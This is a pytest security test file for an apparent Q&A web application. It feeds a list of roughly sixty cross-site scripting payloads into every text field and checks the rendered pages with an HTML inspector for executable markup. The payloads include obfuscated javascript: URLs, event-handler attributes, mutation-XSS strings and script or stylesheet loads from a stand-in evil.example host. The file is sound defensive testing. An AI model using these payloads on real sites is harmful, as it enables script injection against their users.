"""Hostile input through every rich-text and plain-text field never becomes executable markup."""

from html.parser import HTMLParser

import pytest

from crowdq import text
from crowdq.moderation import prevention
from crowdq.questions import discussion
from tests.conftest import login

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](javascript&colon;alert(1))",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    '[x](http://example.org "title" onmouseover=alert(1))',
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:red}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    '<https://example.org/"onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "\u202e<script>alert(1)</script>",
    '<a href="https://ok.example">ok</a><script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
]

# Tags our own templates never emit; <form>, <input> and <details> are ours,
# so those are checked by their attributes instead.
BAD_TAGS = {
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "img",
    "style",
    "base",
    "video",
    "audio",
    "source",
    "marquee",
    "isindex",
    "xss",
    "noscript",
}
OUR_SCRIPT = "/static/crowdq.js"


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and attrs.get("src") != OUR_SCRIPT:
            self.problems.append(f"<script {attrs}>")
        if tag in BAD_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "body" and attrs:
            self.problems.append("<body with attributes>")
        if tag == "link" and attrs.get("href", "").startswith("//"):
            self.problems.append("<link> off-site")
        if tag == "meta" and "http-equiv" in attrs:
            self.problems.append("<meta http-equiv>")
        if tag == "base":
            self.problems.append("<base>")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in ("href", "src", "action", "formaction", "data") and value:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"{tag} {name}={value}")
            if tag == "form" and name == "action" and (value.startswith("//") or not value.startswith("/")):
                self.problems.append(f"form action={value}")


def executable_markup(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.problems


@pytest.mark.parametrize(
    "markup",
    [
        "<img src=x>",
        "<p onclick=x>",
        '<a href=" javascript:x">',
        "<script>x</script>",
        '<form action="//x">',
        "<iframe>",
        '<a href="data:text/html,x">',
        '<div style="x">',
    ],
)
def test_inspector_catches_executable_markup(markup):
    assert executable_markup(markup)


def test_hostile_list_is_long_enough():
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize("payload", HOSTILE)
def test_renderer_output_has_no_executable_markup(payload):
    html = text.render(payload)
    assert executable_markup(html) == []
    assert "<script" not in html.lower()


def test_allowed_markdown_still_works():
    html = text.render("**bold** _em_ [link](https://example.org)\n\n- a\n- b\n\n> quote\n\n`code`")
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html
    assert '<a href="https://example.org" rel="nofollow ugc noopener">link</a>' in html
    assert "<ul>" in html and "<blockquote>" in html and "<code>code</code>" in html


def test_every_page_with_hostile_content_stays_inert(client, db, topic, make_user, make_question, monkeypatch):
    """All hostile inputs at once, in every rich-text and plain-text field, on every page that shows them."""
    # One author posts every payload at once: a burst, and link-heavy posts, that the spam checks would
    # hold (tests/moderation); here the author is no new member and bursts are let through.
    monkeypatch.setattr(prevention, "BURST_POSTS", 10_000)
    author = make_user(display_name="<img src=x onerror=alert(1)>", bio="<script>alert('bio')</script>", trust_level=2)
    questions = []
    for i, payload in enumerate(HOSTILE):
        q = make_question(
            author=author,
            title=f"Hostile question number {i} {payload}"[:200],
            body=payload,
            place=payload[:100],
        )
        discussion.add_comment(db, author, q, payload)
        questions.append(q)
    db.commit()
    login(client, make_user(role="moderator"))
    pages = ["/", "/questions?sort=newest", f"/users/{author.id}", "/search?q=hostile", "/moderation"]
    pages += [f"/questions/{q.id}" for q in questions]
    pages += [f"/questions/{q.id}/edit" for q in questions[:10]]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        problems = executable_markup(response.get_data(as_text=True))
        assert problems == [], (path, problems)
    api = client.get("/api/v1/questions?sort=newest&per_page=100").get_json()
    for item in api["items"]:
        assert executable_markup(item["body_html"]) == []
